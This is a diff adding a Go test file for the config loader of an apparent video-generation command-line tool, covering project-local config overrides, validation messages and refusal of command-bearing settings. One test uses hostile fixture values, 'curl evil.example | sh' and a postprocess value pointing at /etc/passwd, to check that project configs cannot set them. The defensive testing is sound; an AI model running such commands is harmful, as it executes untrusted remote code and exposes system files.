@@ -0,0 +1,150 @@
+package config
+
+import (
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+// chdir changes to dir for the rest of the test
+func chdir(t *testing.T, dir string) {
+	t.Helper()
+	wd, err := os.Getwd()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Chdir(dir); err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { os.Chdir(wd) })
+}
+
+func TestLoadLocal(t *testing.T) {
+	writeConfig(t, `
+model = "sora-2"
+size = "720x1280"
+negative_prompt = "text"
+
+[profiles.client]
+model = "sora-2-pro"
+duration = "8"
+`)
+	project := t.TempDir()
+	if err := os.WriteFile(filepath.Join(project, LocalFileName), []byte(`
+output_dir = "renders"
+model = "sora-pro"
+size = "wide"
+
+[templates.hero]
+prompt = "A {product} on a turntable"
+`), 0644); err != nil {
+		t.Fatal(err)
+	}
+	nested := filepath.Join(project, "scenes", "act1")
+	if err := os.MkdirAll(nested, 0755); err != nil {
+		t.Fatal(err)
+	}
+	chdir(t, nested)
+
+	cfg, err := Load()
+	if err != nil {
+		t.Fatalf("Load() error: %v", err)
+	}
+	if want := filepath.Join(project, LocalFileName); !sameFile(cfg.LocalPath(), want) {
+		t.Errorf("LocalPath() = %s, want %s", cfg.LocalPath(), want)
+	}
+	if !sameFile(cfg.OutputDir, filepath.Join(project, "renders")) {
+		t.Errorf("OutputDir = %s, want the project's renders directory", cfg.OutputDir)
+	}
+	if cfg.Model != "sora-2-pro" || cfg.Size != "1792x1024" || cfg.NegativePrompt != "text" {
+		t.Errorf("model, size, negative = %s, %s, %s, want sora-2-pro, 1792x1024, text", cfg.Model, cfg.Size, cfg.NegativePrompt)
+	}
+
+	// The project-local config overrides a profile too
+	if err := cfg.UseProfile("client"); err != nil {
+		t.Fatal(err)
+	}
+	if cfg.Model != "sora-2-pro" || cfg.Duration != "8" || cfg.Size != "1792x1024" {
+		t.Errorf("with the profile: model, duration, size = %s, %s, %s", cfg.Model, cfg.Duration, cfg.Size)
+	}
+
+	// Saving keeps the project's settings out of the user config
+	cfg.LastPrompt = "a lighthouse"
+	if err := Save(cfg); err != nil {
+		t.Fatalf("Save() error: %v", err)
+	}
+	path, _ := Path()
+	data, _ := os.ReadFile(path)
+	for _, unwanted := range []string{"renders", "1792x1024"} {
+		if strings.Contains(string(data), unwanted) {
+			t.Errorf("saved config contains %q:\n%s", unwanted, data)
+		}
+	}
+	if !strings.Contains(string(data), `last_prompt = "a lighthouse"`) || !strings.Contains(string(data), `size = "720x1280"`) {
+		t.Errorf("saved config lost its own settings:\n%s", data)
+	}
+
+	templates, err := cfg.Templates()
+	if err != nil {
+		t.Fatalf("Templates() error: %v", err)
+	}
+	if templates["hero"].Prompt != "A {product} on a turntable" {
+		t.Errorf("Templates() = %v, want the project's hero template", templates)
+	}
+}
+
+func TestLoadLocalValidates(t *testing.T) {
+	writeConfig(t, "")
+	project := t.TempDir()
+	if err := os.WriteFile(filepath.Join(project, LocalFileName), []byte("modle = \"sora-2\"\nsize = \"1280*720\"\n"), 0644); err != nil {
+		t.Fatal(err)
+	}
+	chdir(t, project)
+
+	_, err := Load()
+	if err == nil {
+		t.Fatal("Load() = nil error, want one")
+	}
+	for _, want := range []string{LocalFileName + " has 2 problems", "Did you mean 'model'?", "size: invalid size '1280*720'"} {
+		if !strings.Contains(err.Error(), want) {
+			t.Errorf("Load() error = %v, want one containing %q", err, want)
+		}
+	}
+}
+
+func TestLoadLocalRefusesCommands(t *testing.T) {
+	writeConfig(t, "")
+	tests := []struct {
+		name  string
+		local string
+	}{
+		{"on_complete", `on_complete = "curl evil.example | sh"`},
+		{"postprocess", `postprocess = "watermark=/etc/passwd"`},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			project := t.TempDir()
+			if err := os.WriteFile(filepath.Join(project, LocalFileName), []byte(tt.local), 0644); err != nil {
+				t.Fatal(err)
+			}
+			chdir(t, project)
+
+			cfg, err := Load()
+			if err == nil {
+				t.Fatalf("Load() = nil error with OnComplete %q, PostProcess %q, want one", cfg.OnComplete, cfg.PostProcess)
+			}
+			if want := tt.name + " can only be set in the user config"; !strings.Contains(err.Error(), want) {
+				t.Errorf("Load() error = %v, want one containing %q", err, want)
+			}
+		})
+	}
+}
+
+// sameFile reports whether a and b name the same file, which they may do
+// through different symlinks to a temporary directory
+func sameFile(a, b string) bool {
+	ra, errA := filepath.EvalSymlinks(filepath.Dir(a))
+	rb, errB := filepath.EvalSymlinks(filepath.Dir(b))
+	return errA == nil && errB == nil && ra == rb && filepath.Base(a) == filepath.Base(b)
+}